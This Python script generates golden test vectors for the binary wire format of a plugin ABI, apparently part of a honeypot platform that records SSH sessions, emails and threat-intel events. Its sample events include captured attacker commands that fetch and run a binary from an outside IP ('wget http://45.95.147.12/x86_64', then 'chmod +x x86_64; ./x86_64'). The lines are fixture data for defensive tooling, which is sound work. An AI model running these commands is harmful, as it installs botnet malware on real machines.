#!/usr/bin/env python3
"""Golden byte vectors of the ttp plugin ABI v1 wire format (abi/ABI.md).

This is an independent encoder: it shares no code with the Go implementation (abi/wire.go)
and is written from the contract, so a second implementation in any language can check
itself against records.json and replies.json, and so can the Go one (abi/wire_test.go).

    python3 abi/testdata/wire/gen.py        # rewrites records.json and replies.json

Everything is little-endian. Numbers in events are IEEE 754 doubles, as a JSON decoder that
follows RFC 8259's interoperability advice reads them; "integral" below means a double whose
value is an integer.
"""

import calendar
import json
import math
import os
import re
import struct
from decimal import Decimal

HERE = os.path.dirname(os.path.abspath(__file__))

# Type tags (ABI.md, "Record").
NULL, BOOL, INT, FLOAT, STRING, STRING_LIST, NUMBER_LIST, PAIRS = range(8)

# The NaN a missing number-list element carries: the bits of Go's math.NaN().
CANONICAL_NAN = 0x7FF8000000000001

TOP_FIELDS = ("source_kind", "source_id", "attacker_uuid", "identity_uuid", "session_id",
              "decky_id", "observed_at", "payload")


def u8(n):
    return struct.pack("<B", n)


def u16(n):
    return struct.pack("<H", n)


def u32(n):
    return struct.pack("<I", n)


def i64(n):
    return struct.pack("<q", n)


def f64(x):
    return struct.pack("<d", x)


def f64_bits(bits):
    return struct.pack("<Q", bits)


def text(s):
    b = s.encode("utf-8")
    return u32(len(b)) + b


# ---- numbers as strings: Go's strconv.FormatFloat(x, 'g', -1, 64) ----

def go_g(x):
    """Shortest digits that round-trip (Python's repr finds the same digits), laid out the
    way Go's %g does with shortest precision: exponent form when the decimal exponent is
    below -4 or at least 6 (so 1200 -> "1200", 1000000 -> "1e+06"), two exponent digits at
    least."""
    if math.isnan(x):
        return "NaN"
    if math.isinf(x):
        return "+Inf" if x > 0 else "-Inf"
    neg = math.copysign(1.0, x) < 0
    if x == 0:
        return "-0" if neg else "0"
    _, digits, exp = Decimal(repr(abs(x))).as_tuple()
    digits = list(digits)
    while len(digits) > 1 and digits[-1] == 0:
        digits.pop()
        exp += 1
    while len(digits) > 1 and digits[0] == 0:
        digits.pop(0)
    nd = len(digits)
    dp = nd + exp  # position of the decimal point relative to the first digit
    e = dp - 1
    ds = "".join(str(d) for d in digits)
    if e < -4 or e >= 6:
        s = ds[0]
        if nd > 1:
            s += "." + ds[1:]
        s += "e" + ("-" if e < 0 else "+") + "%02d" % abs(e)
    else:
        if dp > 0:
            s = ds[:dp] + "0" * max(dp - nd, 0)
        else:
            s = "0"
        frac = nd - dp
        if frac > 0:
            s += "." + "".join(ds[dp + k] if dp + k >= 0 else "0" for k in range(frac))
    return ("-" if neg else "") + s


# ---- events ----

def load_event(raw):
    """Decodes an event the way the host does: every JSON number becomes a double."""
    def no_constant(name):
        raise ValueError("JSON has no " + name)
    return json.loads(raw, parse_int=float, parse_constant=no_constant)


RFC3339 = re.compile(r"^(\d{4})-(\d{2})-(\d{2})T(\d{2}):(\d{2}):(\d{2})(?:\.(\d{1,9}))?(Z|[+-]\d{2}:\d{2})$")


def observed_at_utc(s):
    """observed_at as a record carries it: converted to UTC, fractional seconds without
    trailing zeros (none when whole), 'Z'."""
    m = RFC3339.match(s)
    if not m:
        raise ValueError("not RFC 3339: " + s)
    y, mo, d, h, mi, sec = (int(g) for g in m.groups()[:6])
    nanos = int((m.group(7) or "").ljust(9, "0") or "0")
    zone = m.group(8)
    off = 0
    if zone != "Z":
        sign = 1 if zone[0] == "+" else -1
        off = sign * (int(zone[1:3]) * 3600 + int(zone[4:6]) * 60)
    t = calendar.timegm((y, mo, d, h, mi, sec, 0, 0, 0)) - off
    g = __import__("time").gmtime(t)
    out = "%04d-%02d-%02dT%02d:%02d:%02d" % g[:6]
    if nanos:
        out += "." + ("%09d" % nanos).rstrip("0")
    return out + "Z"


MISSING = object()


def lookup(event, path):
    """Reads an absolute field path from an event; MISSING when absent."""
    parts = path.split(".")
    if parts[-1] == "*":
        parts = parts[:-1]  # ".*" reads the object itself
    top = parts[0]
    assert top in TOP_FIELDS, path
    if top in ("source_kind", "source_id"):
        return event[top]
    if top != "payload":
        v = event.get(top)
        if v is None or v == "":
            return MISSING
        return observed_at_utc(v) if top == "observed_at" else v
    payload = event.get("payload")
    if payload is None:
        return MISSING
    return walk(payload, parts[1:])


def walk(cur, segs):
    for i, seg in enumerate(segs):
        each = seg.endswith("[]")
        name = seg[:-2] if each else seg
        if not isinstance(cur, dict) or name not in cur:
            return MISSING
        cur = cur[name]
        if each:
            if not isinstance(cur, list):
                return MISSING
            rest = segs[i + 1:]
            out = []
            for el in cur:
                if not rest:
                    out.append(el)
                elif isinstance(el, dict):
                    v = walk(el, rest)
                    out.append(None if v is MISSING else v)
                else:
                    out.append(None)
            return out
    return cur


# ---- record values ----

def scalar_string(v):
    if isinstance(v, str):
        return v
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, float):
        return go_g(v)
    return ""  # null, arrays, objects


def encode_value(v):
    if v is MISSING or v is None:
        return u8(NULL)
    if isinstance(v, bool):
        return u8(BOOL) + u8(1 if v else 0)
    if isinstance(v, float):
        if v.is_integer() and abs(v) <= 2 ** 53:
            return u8(INT) + i64(int(v))
        return u8(FLOAT) + f64(v)
    if isinstance(v, str):
        return u8(STRING) + text(v)
    if isinstance(v, list):
        if any(isinstance(el, str) for el in v):
            return u8(STRING_LIST) + u32(len(v)) + b"".join(text(scalar_string(el)) for el in v)
        out = u8(NUMBER_LIST) + u32(len(v))
        for el in v:
            if isinstance(el, bool):
                out += f64(1.0 if el else 0.0)
            elif isinstance(el, float):
                out += f64(el)
            else:
                out += f64_bits(CANONICAL_NAN)
        return out
    if isinstance(v, dict):
        keys = sorted(v, key=lambda k: k.encode("utf-8"))  # byte order
        out = u8(PAIRS) + u32(len(keys))
        for k in keys:
            out += text(k) + text(scalar_string(v[k]))
        return out
    raise TypeError(type(v))


def readback(v):
    """What the accessors return for a value: {tag, value}; number lists use null for NaN,
    pairs are [[key, value], ...] in record order."""
    enc = encode_value(v)
    tag = enc[0]
    if tag == NULL:
        return {"tag": tag}
    if tag == BOOL:
        return {"tag": tag, "value": v}
    if tag == INT:
        return {"tag": tag, "value": int(v)}
    if tag == FLOAT:
        return {"tag": tag, "value": v}
    if tag == STRING:
        return {"tag": tag, "value": v}
    if tag == STRING_LIST:
        return {"tag": tag, "value": [scalar_string(el) for el in v]}
    if tag == NUMBER_LIST:
        vals = []
        for el in v:
            if isinstance(el, bool):
                vals.append(1.0 if el else 0.0)
            elif isinstance(el, float):
                vals.append(el)
            else:
                vals.append(None)
        return {"tag": tag, "value": vals}
    keys = sorted(v, key=lambda k: k.encode("utf-8"))
    return {"tag": tag, "value": [[k, scalar_string(v[k])] for k in keys]}


def record(event, kind_index, paths):
    out = u8(1) + u8(kind_index) + u16(len(paths))
    for p in paths:
        out += encode_value(lookup(event, p))
    return out


# ---- record cases ----

ATT = "6f1c2d0e-1b7a-4f2e-9a51-3c0de1a2b001"

RECORD_CASES = [
    {
        "name": "session_every_scalar_and_list",
        "note": "envelope fields (identity_uuid absent -> null), int, bool, string, string "
                "lists from an array and from a[].b with a missing element, number list; "
                "commands are projected as given (the host's Expand is not applied here), so "
                "the bare string command gives \"\"",
        "event": r'''{"source_kind":"session","source_id":"cowrie-a1f3","attacker_uuid":"6f1c2d0e-1b7a-4f2e-9a51-3c0de1a2b001","session_id":"a1f3c9e2","decky_id":"ssh-fra-01","observed_at":"2026-11-27T04:12:09.5+01:00",
          "payload":{"commands":["uname -a",{"id":"c-2","text":"cat /proc/cpuinfo"},{"text":"wget http://45.95.147.12/x86_64"}],
                     "command_times_ms":[0,140,305],"duration_ms":1200,"login_failures":3,"login_success":true,
                     "usernames":["root","admin"],"client_version":"SSH-2.0-Go",
                     "downloads":[{"url":"http://45.95.147.12/x86_64","sha256":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},{"url":"http://45.95.147.12/arm7"}]}}''',
        "kind_index": 0,
        "paths": ["source_kind", "source_id", "attacker_uuid", "identity_uuid", "session_id",
                  "decky_id", "observed_at", "payload.duration_ms", "payload.login_success",
                  "payload.client_version", "payload.usernames", "payload.command_times_ms",
                  "payload.downloads[].url", "payload.downloads[].sha256",
                  "payload.commands[].text", "payload.missing"],
    },
    {
        "name": "projection_example",
        "note": "the projected fields of abi/EVENTS.md's session example (\"Projection\"), "
                "after the host normalised its commands to objects",
        "event": r'''{"source_kind":"session","source_id":"cowrie-77b0","attacker_uuid":"0c5e9b7a-51d4-4a0e-8f3a-7d2b94c1e777","session_id":"77b0d2aa","decky_id":"ssh-ams-02","observed_at":"2026-11-27T04:20:31.250Z",
          "payload":{"commands":[{"text":"uname -a"},{"id":"cmd-7","text":"cat /proc/cpuinfo"},{"text":"cd /tmp; wget http://45.95.147.12/x86_64"},{"text":"chmod +x x86_64; ./x86_64"}],
                     "command_times_ms":[0,120,260,410.5],"duration_ms":1830,
                     "downloads":[{"url":"http://45.95.147.12/x86_64","sha256":"5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8"},{"url":"http://45.95.147.12/x86_64.1"}]}}''',
        "kind_index": 0,
        "paths": ["payload.commands[].text", "payload.command_times_ms", "payload.duration_ms",
                  "payload.downloads[].sha256"],
    },
    {
        "name": "numbers_int_or_float",
        "note": "integral doubles with magnitude <= 2^53 are ints (1.0 and 1e3 included, -0 "
                "is int 0), everything else is a float; 9007199254740993 rounds to 2^53 when "
                "decoded",
        "event": r'''{"source_kind":"auth","source_id":"auth-1","payload":{"a":0.5,"b":9007199254740992,"c":9007199254740994,"d":-9007199254740992,"e":-9007199254740994,
          "f":1e300,"g":-0,"h":1.0,"i":1e3,"j":-42,"k":123.456,"l":9007199254740993,"m":5e-324,"n":-0.0}}''',
        "kind_index": 3,
        "paths": ["payload.a", "payload.b", "payload.c", "payload.d", "payload.e", "payload.f",
                  "payload.g", "payload.h", "payload.i", "payload.j", "payload.k", "payload.l",
                  "payload.m", "payload.n"],
    },
    {
        "name": "number_lists_with_gaps",
        "note": "arrays without strings are number lists: booleans 1/0, null, objects and "
                "arrays NaN (canonical bits 0x7FF8000000000001); a[].b over elements lacking b "
                "or not objects gives NaN; an empty array is an empty number list; a "
                "collection where no element has the field is a number list of NaN too",
        "event": r'''{"source_kind":"email","source_id":"smtp-3","payload":{"samples":[1,null,2.5,true,false,{"a":1},[1],-3],
          "attachments":[{"filename":"invoice.pdf.exe","size":48213},{"filename":"readme.txt"},"junk",{"filename":"x.js","size":0.5}],
          "empty":[]}}''',
        "kind_index": 1,
        "paths": ["payload.samples", "payload.attachments[].size", "payload.empty",
                  "payload.attachments[].sha256", "payload.attachments[].filename"],
    },
    {
        "name": "mixed_arrays_become_strings",
        "note": "one string makes the whole array a string list: numbers in Go's shortest "
                "'g' form (exponent when below 1e-4 or from 1e6), booleans true/false, null, "
                "objects and arrays \"\"",
        "event": r'''{"source_kind":"canary","source_id":"cnr-1","payload":{"mixed":["a",1200,0.5,true,false,null,{"x":1},[1],1e6,1e21,1.5e-7,-0,123456,1234567,0.0001,0.00001,-2.5e-300,100000,1e-4,3.0]}}''',
        "kind_index": 5,
        "paths": ["payload.mixed"],
    },
    {
        "name": "pairs_sorted_by_bytes",
        "note": "an object read with .* or with a plain path is pairs, keys in byte order "
                "(upper case before lower case, UTF-8 after ASCII), values as strings: "
                "numbers in 'g' form, booleans true/false, null and nested objects or arrays "
                "\"\"; an empty object is zero pairs",
        "event": r'''{"source_kind":"email","source_id":"smtp-4","payload":{"headers":{"x-mailer":"PHPMailer 6.9.1","Content-Type":"text/html","date":"Fri, 27 Nov 2026 04:01:02 +0000",
          "x-priority":1,"x-score":0.5,"x-big":1e6,"x-flag":true,"x-null":null,"x-obj":{"a":"b"},"x-arr":["a"],"\u00e9t\u00e9":"summer","zz":"last","~":"tilde","A":"upper"},"empty":{}}}''',
        "kind_index": 2,
        "paths": ["payload.headers.*", "payload.headers", "payload.empty.*"],
    },
    {
        "name": "nested_objects",
        "note": "nested paths read into objects; a path through a scalar or past a missing "
                "object is null",
        "event": r'''{"source_kind":"canary","source_id":"cnr-2","observed_at":"2026-11-27T04:30:00Z",
          "payload":{"navigator":{"webdriver":true,"userAgent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64) HeadlessChrome/131.0.0.0 Safari/537.36","platform":"Linux x86_64",
          "languages":["en-US","en"],"plugins_count":0,"hardwareConcurrency":8},"webgl":{"vendor":"Google Inc. (Google)","renderer":"ANGLE (Google, Vulkan 1.3.0 (SwiftShader Device (Subzero)), SwiftShader driver)"},
          "geo":{"country":"NL","timezone":"Europe/Amsterdam"}}}''',
        "kind_index": 0,
        "paths": ["payload.navigator.webdriver", "payload.navigator.hardwareConcurrency",
                  "payload.navigator.languages", "payload.webgl.renderer", "payload.geo.country",
                  "payload.navigator.*", "payload.webgl.missing", "payload.navigator.userAgent.length",
                  "payload.nothing.deeper", "observed_at"],
    },
    {
        "name": "collections_that_are_absent_or_nested",
        "note": "a[] on a missing field or a non-array is null; .* on a non-object yields the "
                "value as it is; a list of lists (AbuseIPDB reports[].categories) is a "
                "number list of NaN: ABI v1 cannot carry nested lists",
        "event": r'''{"source_kind":"intel","source_id":"intel-5","payload":{"ip":"45.95.147.12",
          "abuseipdb":{"abuseConfidenceScore":100,"reports":[{"categories":[18,22],"comment":"ssh brute force"},{"categories":[14],"comment":"port scan"}]},
          "threatfox":[{"ioc":"45.95.147.12:443","tags":["Mirai"]},{"ioc":"45.95.147.12:80","tags":null}]}}''',
        "kind_index": 7,
        "paths": ["payload.abuseipdb.reports[].categories", "payload.abuseipdb.reports[].comment",
                  "payload.threatfox[].tags", "payload.missing[].x", "payload.ip[]",
                  "payload.ip.*", "payload.abuseipdb.reports[].categories[]"],
    },
    {
        "name": "unicode_and_escapes",
        "note": "strings are UTF-8 bytes; lengths count bytes, not characters",
        "event": r'''{"source_kind":"command","source_id":"c-\u00fc","payload":{"command_text":"echo \"h\u00e9llo\" \ud83d\ude00\t> /tmp/.x","argv":["echo","\u00e9","\ud83d\ude00",""]}}''',
        "kind_index": 255,
        "paths": ["source_id", "payload.command_text", "payload.argv"],
    },
    {
        "name": "no_fields",
        "note": "a kind declared with no fields still gets a record: the header alone",
        "event": r'''{"source_kind":"http","source_id":"http-1","payload":{"method":"GET"}}''',
        "kind_index": 6,
        "paths": [],
    },
    {
        "name": "no_payload",
        "note": "payload absent or null: every payload path is null",
        "event": r'''{"source_kind":"identity","source_id":"id-1","identity_uuid":"3b8f1e22-7c4d-4e9a-b1f0-5a6c7d8e9f01","payload":null}''',
        "kind_index": 1,
        "paths": ["identity_uuid", "payload.usernames", "payload.geo.*", "attacker_uuid"],
    },
]


# ---- replies ----

def draft(rule, emit, scale, evidence):
    out = u16(rule) + u8(emit) + u8(len(evidence)) + f64(scale)
    for key, enc in evidence:
        out += u8(key) + enc
    return out


def ok_reply(drafts):
    return u8(1) + u8(0) + u16(0) + u32(len(drafts)) + b"".join(drafts)


def error_reply(msg):
    return u8(1) + u8(1) + u16(0) + text(msg)


def ev_string(s):
    return u8(STRING) + text(s)


def ev_int(n):
    return u8(INT) + i64(n)


def ev_float(x):
    return u8(FLOAT) + f64(x)


def ev_bool(b):
    return u8(BOOL) + u8(1 if b else 0)


def ev_strings(lst):
    return u8(STRING_LIST) + u32(len(lst)) + b"".join(text(s) for s in lst)


def ev_numbers(lst):
    return u8(NUMBER_LIST) + u32(len(lst)) + b"".join(f64(x) for x in lst)


LIMITS = {"emits": [2, 1, 3], "evidence_keys": 6}

MULTI = [
    draft(0, 1, 1.0, [(0, ev_string("wget")), (1, ev_int(5)), (2, ev_float(0.25)),
                      (3, ev_bool(True)), (4, ev_strings(["uname -a", "", "id"])),
                      (5, ev_numbers([140.0, 0.5, -3.0]))]),
    draft(2, 2, 0.35, []),
    draft(1, 0, 0.0, [(0, ev_string("")), (1, ev_int(-9007199254740993)), (3, ev_bool(False)),
                      (4, ev_strings([])), (5, ev_numbers([]))]),
]
MULTI_WANT = [
    {"rule": 0, "emit": 1, "scale": 1.0, "evidence": [
        {"key": 0, "type": "string", "value": "wget"},
        {"key": 1, "type": "int", "value": 5},
        {"key": 2, "type": "float", "value": 0.25},
        {"key": 3, "type": "bool", "value": True},
        {"key": 4, "type": "strings", "value": ["uname -a", "", "id"]},
        {"key": 5, "type": "numbers", "value": [140.0, 0.5, -3.0]}]},
    {"rule": 2, "emit": 2, "scale": 0.35, "evidence": []},
    {"rule": 1, "emit": 0, "scale": 0.0, "evidence": [
        {"key": 0, "type": "string", "value": ""},
        {"key": 1, "type": "int", "value": -9007199254740993},
        {"key": 3, "type": "bool", "value": False},
        {"key": 4, "type": "strings", "value": []},
        {"key": 5, "type": "numbers", "value": []}]},
]

ONE = draft(0, 0, 0.5, [(0, ev_string("x"))])


def mal(name, data, note):
    return {"name": name, "note": note, "reply_hex": data.hex(), "limits": LIMITS,
            "want": {"error": "malformed"}}


def reply_cases():
    cases = [
        {"name": "ok_every_evidence_type", "note": "three drafts; every evidence value type; "
         "scales 1, 0.35 and 0", "reply_hex": ok_reply(MULTI).hex(), "limits": LIMITS,
         "want": {"drafts": MULTI_WANT}},
        {"name": "ok_no_drafts", "note": "nothing to tag", "reply_hex": ok_reply([]).hex(),
         "limits": LIMITS, "want": {"drafts": []}},
        {"name": "ok_no_evidence_keys", "note": "a plugin that declared no evidence keys",
         "reply_hex": ok_reply([draft(1, 0, 0.8, [])]).hex(),
         "limits": {"emits": [1, 1], "evidence_keys": 0},
         "want": {"drafts": [{"rule": 1, "emit": 0, "scale": 0.8, "evidence": []}]}},
        {"name": "error_reply", "note": "status 1: the plugin failed the call with a message",
         "reply_hex": error_reply("min_commands must be a positive integer").hex(),
         "limits": LIMITS,
         "want": {"error": "guest", "message": "min_commands must be a positive integer"}},
        {"name": "error_reply_empty_message", "note": "status 1 with no message",
         "reply_hex": error_reply("").hex(), "limits": LIMITS,
         "want": {"error": "guest", "message": ""}},
        mal("rule_index_out_of_range", ok_reply([draft(3, 0, 1.0, [])]), "3 rules configured"),
        mal("rule_index_out_of_range_second_draft", ok_reply([ONE, draft(65535, 0, 1.0, [])]),
            "the first draft is fine"),
        mal("emit_index_out_of_range", ok_reply([draft(1, 1, 1.0, [])]), "rule 1 has 1 emits entry"),
        mal("evidence_key_out_of_range", ok_reply([draft(0, 0, 1.0, [(6, ev_string("x"))])]),
            "6 evidence keys declared"),
        mal("scale_above_one", ok_reply([draft(0, 0, 1.5, [])]), "scale 1.5"),
        mal("scale_negative", ok_reply([draft(0, 0, -0.25, [])]), "scale -0.25"),
        mal("scale_nan", ok_reply([u16(0) + u8(0) + u8(0) + f64_bits(CANONICAL_NAN)]), "scale NaN"),
        mal("scale_infinite", ok_reply([draft(0, 0, float("inf"), [])]), "scale +Inf"),
        mal("unknown_evidence_tag", ok_reply([u16(0) + u8(0) + u8(1) + f64(1.0) + u8(0) + u8(8) + u8(0)]),
            "tag 8"),
        mal("truncated_draft", ok_reply([ONE])[:15], "cut inside the draft header"),
        mal("truncated_evidence", ok_reply([ONE])[:-1], "string evidence one byte short"),
        mal("truncated_draft_count", ok_reply([])[:6], "header without the whole count"),
        mal("draft_count_past_end", u8(1) + u8(0) + u16(0) + u32(2) + ONE, "two drafts announced, one sent"),
        mal("evidence_count_past_end", ok_reply([u16(0) + u8(0) + u8(2) + f64(1.0) + u8(0) + ev_string("x")]),
            "two evidence entries announced, one sent"),
        mal("trailing_bytes", ok_reply([ONE]) + b"\x00", "one byte after the last draft"),
        mal("trailing_bytes_no_drafts", ok_reply([]) + b"\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00",
            "a whole zero draft that the count does not announce"),
        mal("unknown_status", u8(1) + u8(2) + u16(0) + u32(0), "status 2"),
        mal("wrong_version", u8(2) + u8(0) + u16(0) + u32(0), "reply version 2"),
        mal("version_zero", u8(0) + u8(0) + u16(0) + u32(0), "reply version 0"),
        mal("shorter_than_header", b"\x01\x00\x00", "3 bytes"),
        mal("empty", b"", "no bytes at all"),
        mal("error_reply_truncated", error_reply("boom")[:-1], "message one byte short"),
        mal("error_reply_trailing", error_reply("boom") + b"!", "a byte after the message"),
        mal("error_reply_no_length", u8(1) + u8(1) + u16(0), "status 1 without a length"),
    ]
    # Size cap (MaxReply = 1 MiB): too large to store, described instead. The reply is
    # reply_hex followed by fill.count copies of fill.byte: one draft (rule 0, emit 0, scale
    # 1) with one string evidence value that fills it to total bytes.
    for total, want in ((1 << 20, "ok"), ((1 << 20) + 1, "malformed")):
        n = total - (8 + 12 + 1 + 1 + 4)
        head = ok_reply([u16(0) + u8(0) + u8(1) + f64(1.0) + u8(0) + u8(STRING) + u32(n)])
        c = {"name": "size_%d" % total, "note": "one string evidence value of %d bytes; "
             "MaxReply is 1048576" % n, "reply_hex": head.hex(),
             "fill": {"byte": "61", "count": n}, "total_bytes": total, "limits": LIMITS}
        if want == "ok":
            c["want"] = {"drafts": [{"rule": 0, "emit": 0, "scale": 1.0, "evidence": [
                {"key": 0, "type": "string", "fill": {"byte": "61", "count": n}}]}]}
        else:
            c["want"] = {"error": "malformed"}
        cases.append(c)
    return cases


class Num(str):
    """A JSON number kept as its source text, so the stored event says exactly what was
    encoded (-0 and 1.0 survive)."""


def dumps(v, indent=0):
    """json.dumps with indentation that writes Num tokens verbatim."""
    pad, inner = " " * indent, " " * (indent + 1)
    if isinstance(v, Num):
        return str(v)
    if isinstance(v, dict):
        if not v:
            return "{}"
        items = ",\n".join(inner + json.dumps(k, ensure_ascii=False) + ": " + dumps(x, indent + 1)
                           for k, x in v.items())
        return "{\n" + items + "\n" + pad + "}"
    if isinstance(v, list):
        if not v:
            return "[]"
        if all(not isinstance(x, (dict, list)) for x in v):
            return "[" + ", ".join(dumps(x) for x in v) + "]"
        return "[\n" + ",\n".join(inner + dumps(x, indent + 1) for x in v) + "\n" + pad + "]"
    return json.dumps(v, ensure_ascii=False)


def main():
    records = []
    for c in RECORD_CASES:
        ev = load_event(c["event"])
        rec = record(ev, c["kind_index"], c["paths"])
        records.append({
            "name": c["name"],
            "note": c["note"],
            "event": json.loads(c["event"], parse_int=Num, parse_float=Num),
            "kind_index": c["kind_index"],
            "paths": c["paths"],
            "record_hex": rec.hex(),
            "values": [readback(lookup(ev, p)) for p in c["paths"]],
        })
    for name, data in (("records.json", records), ("replies.json", reply_cases())):
        with open(os.path.join(HERE, name), "w", encoding="utf-8") as f:
            f.write(dumps(data) + "\n")


if __name__ == "__main__":
    main()
